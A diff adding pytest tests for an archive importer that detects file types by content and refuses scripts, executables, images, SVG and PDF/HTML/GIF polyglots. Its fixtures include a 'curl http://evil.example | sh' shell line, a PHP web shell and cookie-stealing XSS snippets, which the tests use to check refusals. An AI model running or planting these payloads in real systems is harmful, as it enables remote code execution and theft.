@@ -1,0 +1,116 @@
+"""Deciding what a file is from its content, and refusing everything else."""
+
+import random
+
+import pytest
+
+from archive.importing import ImportRefused
+from archive.importing.detect import HTML, MARKDOWN, PDF, PLAIN_TEXT, detect
+from archive.importing.extract import extract
+from tests.documents import article_html, pdf_bytes
+
+
+def refusal(data: bytes, filename: str = "notes.txt") -> str:
+    with pytest.raises(ImportRefused) as refused:
+        extract(data, filename=filename)
+    return refused.value.message
+
+
+def test_html_is_recognized_by_content_even_when_named_txt():
+    assert detect(article_html(), filename="notes.txt").media_type == HTML
+
+
+def test_markdown_is_text_content_with_a_markdown_name():
+    assert detect(b"# Heading\n\nSome *text*.", filename="notes.md").media_type == MARKDOWN
+
+
+def test_text_named_like_a_pdf_is_still_plain_text():
+    assert detect(b"Just words.", filename="report.pdf").media_type == PLAIN_TEXT
+
+
+def test_pdf_is_recognized_by_its_header():
+    assert detect(pdf_bytes("Hello"), filename="upload.bin").media_type == PDF
+
+
+def test_windows_1256_arabic_text_is_decoded_with_its_encoding_detected():
+    arabic = "قال المجلس المحلي إن محطة المياه توقفت عن العمل صباح الثلاثاء بعد القصف."
+    detected = detect(arabic.encode("cp1256"))
+    assert detected.text == arabic
+    assert detected.encoding == "cp1256"
+
+
+def test_utf16_text_with_a_byte_order_mark_is_decoded():
+    assert detect("Grüße aus Daraa".encode("utf-16")).text == "Grüße aus Daraa"
+
+
+def test_shell_script_renamed_txt_is_refused_as_a_script():
+    assert "script" in refusal(b"#!/bin/sh\ncurl http://evil.example | sh\n")
+
+
+def test_elf_executable_renamed_txt_is_refused_as_a_program():
+    assert "executable program (ELF)" in refusal(b"\x7fELF\x02\x01\x01\x00" + bytes(56))
+
+
+def test_windows_executable_renamed_txt_is_refused():
+    assert "Windows executable" in refusal(b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + bytes(100))
+
+
+def test_text_that_merely_starts_with_mz_is_accepted():
+    assert detect(b"MZ Bank said on Tuesday that it would reopen.").media_type == PLAIN_TEXT
+
+
+def test_php_script_renamed_txt_is_refused():
+    assert "PHP script" in refusal(b"<?php system($_GET['c']); ?>")
+
+
+def test_pdf_that_is_also_html_is_refused_as_a_polyglot():
+    polyglot = pdf_bytes("Looks harmless") + b"<html><script>alert(document.cookie)</script></html>"
+    assert "polyglot" in refusal(polyglot, "report.pdf")
+
+
+def test_html_hiding_a_pdf_header_is_refused_as_a_polyglot():
+    polyglot = b"<html><!--\n%PDF-1.4\n1 0 obj << >> endobj --><script>alert(1)</script></html>"
+    assert "polyglot" in refusal(polyglot, "page.html")
+
+
+def test_gif_javascript_polyglot_is_refused_as_an_image():
+    polyglot = b"GIF89a/*\x01\x00\x01\x00\x00\x00\x00*/=1;alert(document.domain);//"
+    assert "GIF image" in refusal(polyglot, "avatar.txt")
+
+
+def test_png_image_is_refused():
+    assert "PNG image" in refusal(b"\x89PNG\r\n\x1a\n" + bytes(40), "photo.txt")
+
+
+def test_svg_is_refused_since_it_can_carry_scripts():
+    assert "XML or SVG" in refusal(b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>')
+
+
+def test_empty_file_is_refused():
+    assert refusal(b"") == "The file is empty."
+
+
+def test_file_over_the_size_limit_is_refused(settings):
+    settings.IMPORT_MAX_BYTES = 1000
+    assert "larger than the limit of 1000" in refusal(b"a" * 1001)
+
+
+def test_undecodable_bytes_are_refused():
+    noise = random.Random(5).randbytes(4000)
+    assert "cannot be decoded as text" in refusal(noise)
+
+
+def test_binary_data_without_a_known_signature_is_refused():
+    assert "binary data" in refusal(b"header\x00\x00\x01\x02payload" * 20)
+
+
+def test_pdf_without_a_text_layer_is_refused_with_the_reason():
+    assert "no text layer" in refusal(pdf_bytes(), "scan.pdf")
+
+
+def test_damaged_pdf_is_refused_as_unreadable():
+    assert "cannot be read" in refusal(b"%PDF-1.7\nthis is not really a PDF at all", "broken.pdf")
+
+
+def test_html_page_without_any_text_is_refused():
+    assert "No text" in refusal(b"<html><body><script>only()</script></body></html>", "empty.html")
